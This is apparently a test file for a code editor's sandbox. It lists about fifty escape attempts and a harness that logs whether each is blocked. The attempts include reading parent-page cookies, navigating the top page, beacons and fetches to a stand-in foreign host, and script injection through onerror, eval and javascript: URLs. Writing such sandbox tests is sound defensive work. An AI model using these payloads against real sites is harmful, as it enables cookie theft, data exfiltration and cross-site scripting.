import { demo } from './texts.ts';

/**
 * What code in the editor must not be able to do → the body of an async function that throws if it fails.
 * `STRANGER` is another host, `SITE` is the site; `box` is a new element.
 */
export const attacks: Record<string, string> = {
  'the page’s document': 'return parent.document.title;',
  'the page’s address': 'return parent.location.href;',
  'the top page’s document': 'return top.document.title;',
  'local storage': 'localStorage.setItem("a", "b");',
  'reading cookies': 'return document.cookie;',
  databases:
    'await new Promise((ok, no) => { const r = indexedDB.open("a"); r.onsuccess = ok; r.onerror = no; });',
  'navigating the page': 'top.location.href = "STRANGER/top";',
  'navigating the page by a link':
    'const a = document.createElement("a"); a.href = "STRANGER/link"; a.target = "_top"; document.body.append(a); a.click(); throw 0;',
  'a popup': 'if (!open("STRANGER/popup")) throw 0;',
  'a download':
    'const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x"; a.click(); throw 0;',
  'fetching from another host': 'await fetch("STRANGER/fetch");',
  'fetching from the site': 'await fetch("SITE/index.json");',
  'fetching without an answer': 'await fetch("STRANGER/no-cors", { mode: "no-cors" });',
  'a beacon':
    'if (!navigator.sendBeacon("STRANGER/beacon")) throw 0; await new Promise((_, no) => setTimeout(no, 100));',
  'a socket':
    'await new Promise((ok, no) => { const s = new WebSocket("STRANGER/socket".replace("http", "ws")); s.onopen = ok; s.onerror = no; });',
  'a script of another host': 'await loaded("script", { src: "STRANGER/script.js" });',
  'a script of the site': 'await loaded("script", { src: "SITE/~workbench/frame.html" });',
  'a module of another host': 'await Function("return import(\'STRANGER/module.js\')")();',
  'a style sheet': 'await loaded("link", { rel: "stylesheet", href: "STRANGER/style.css" });',
  'fetching beforehand': 'await loaded("link", { rel: "prefetch", href: "STRANGER/prefetch" });',
  'an image of another host': 'await loaded("img", { src: "STRANGER/image.png" });',
  'a font': 'await new FontFace("a", "url(STRANGER/font.woff2)").load();',
  'a form':
    'const f = document.createElement("form"); f.action = "STRANGER/form"; document.body.append(f); f.submit(); throw 0;',
  'an object': 'await loaded("object", { data: "STRANGER/object" });',
  'a worker':
    'new Worker(URL.createObjectURL(new Blob([""]))); await new Promise((_, no) => setTimeout(no, 100));',
  'a service worker': 'await navigator.serviceWorker.register("SITE/x.js");',
  'a call to another browser': 'new RTCPeerConnection();',
  'code from text': 'return eval("1");',
  'a window on top': 'await (globalThis as any).documentPictureInPicture.requestWindow();',
  'text of a script':
    'const s = document.createElement("script"); s.textContent = "ran = 1"; document.body.append(s); await ran();',
  'a script at an address of data':
    'const s = document.createElement("script"); s.src = "data:text/javascript,ran=1"; document.body.append(s); await ran();',
  'a handler as text': 'box.setAttribute("onclick", "ran = 1"); box.click(); await ran();',
  'a handler in markup':
    'box.innerHTML = "<img src=x: onerror=\'ran = 1\'>"; document.body.append(box); await ran();',
  'an address that is code':
    'const a = document.createElement("a"); a.href = "javascript:ran=1"; document.body.append(a); a.click(); await ran();',
  'a timer with text': '(setTimeout as any)("ran = 1"); await ran();',
  'a function from text': 'new Function("ran = 1")(); await ran();',
  'a module at an address of data':
    'const at = "data:text/javascript,globalThis.ran=1"; await import(at);',
  'a module in a blob':
    'const at = URL.createObjectURL(new Blob(["globalThis.ran=1"], { type: "text/javascript" })); await import(at);',
  'a worker of data':
    'const w = new Worker("data:text/javascript,postMessage(1)"); await new Promise((ok, no) => { w.onmessage = ok; w.onerror = no; });',
  'a worklet':
    'await new AudioContext().audioWorklet.addModule(URL.createObjectURL(new Blob([""], { type: "text/javascript" })));',
  'a module beforehand': 'await loaded("link", { rel: "modulepreload", href: "STRANGER/module" });',
  'pages beforehand':
    'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = \'{"prefetch":[{"source":"list","urls":["STRANGER/speculation"]}]}\'; document.head.append(s); throw 0;',
  'an image of the site': 'await loaded("img", { src: "SITE/favicon.ico?data" });',
  'a video': 'await loaded("video", { src: "STRANGER/video", poster: "STRANGER/poster" });',
  'style sheets':
    'const s = document.createElement("style"); s.textContent = "@import url(STRANGER/import); @font-face { font-family: f; src: url(STRANGER/face) } body { background: url(STRANGER/background); cursor: url(STRANGER/cursor), auto; font-family: f } body::before { content: url(STRANGER/content) }"; document.head.append(s); throw 0;',
  'a request for later':
    '(globalThis as any).fetchLater("STRANGER/later", { activateAfter: 0 }); throw 0;',
  'the ping of a link':
    'const a = document.createElement("a"); a.href = "#ping"; a.ping = "STRANGER/ping"; document.body.append(a); a.click(); throw 0;',
  'another base':
    'document.head.append(Object.assign(document.createElement("base"), { href: "STRANGER/" })); if (!document.baseURI.startsWith("STRANGER/")) throw 0;',
  'a payment':
    'await new (globalThis as any).PaymentRequest([{ supportedMethods: "STRANGER/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment();',
};

/**
 * The body of a demo that makes the attempts in `tries`: it logs “open” or “shut” and the name of each, then
 * “done”. Each starts in a task of its own: together they could take longer than the guard allows.
 */
const TRY_ALL = `useEffect(() => {
    const wait = (time: number) => new Promise((ok) => setTimeout(ok, time));
    const tryOne = async ([name, attempt]: (typeof tries)[number]) => {
      // Some refused attempts neither succeed nor throw.
      const silence = wait(1000).then(() => { throw 0; });
      try { await Promise.race([attempt(document.createElement('div')), silence]); console.warn('open', name); }
      catch { console.log('shut', name); }
    };
    const attempts: Promise<void>[] = [];
    const next = () => {
      const entry = tries.shift();
      if (!entry) { void Promise.allSettled(attempts).then(() => console.log('done')); return; }
      attempts.push(tryOne(entry));
      setTimeout(next, 20);
    };
    next();
  }, []);`;

/** A demo that makes these attempts. */
export function attackText(options: {
  site: string;
  stranger: string;
  /** @default all */
  names?: string[];
}): string {
  const { site, stranger, names = Object.keys(attacks) } = options;
  const tries = names.map(
    (name) => `  [${JSON.stringify(name)}, async (box: any) => { ${attacks[name]} }],`,
  );
  return demo({
    before: `const wait = (time: number) => new Promise((ok) => setTimeout(ok, time));
const ran = async () => {
  await wait(200);
  if (!(globalThis as any).ran) throw 0;
};
const loaded = (tag: string, props: object) => new Promise((ok, no) => {
  document.body.append(Object.assign(document.createElement(tag), props, { onload: ok, onloadeddata: ok, onerror: no }));
});
const tries: [string, (box: any) => unknown][] = [
${tries.join('\n')}
];`,
    body: TRY_ALL,
  })
    .replaceAll('STRANGER/', stranger)
    .replaceAll('SITE/', site);
}
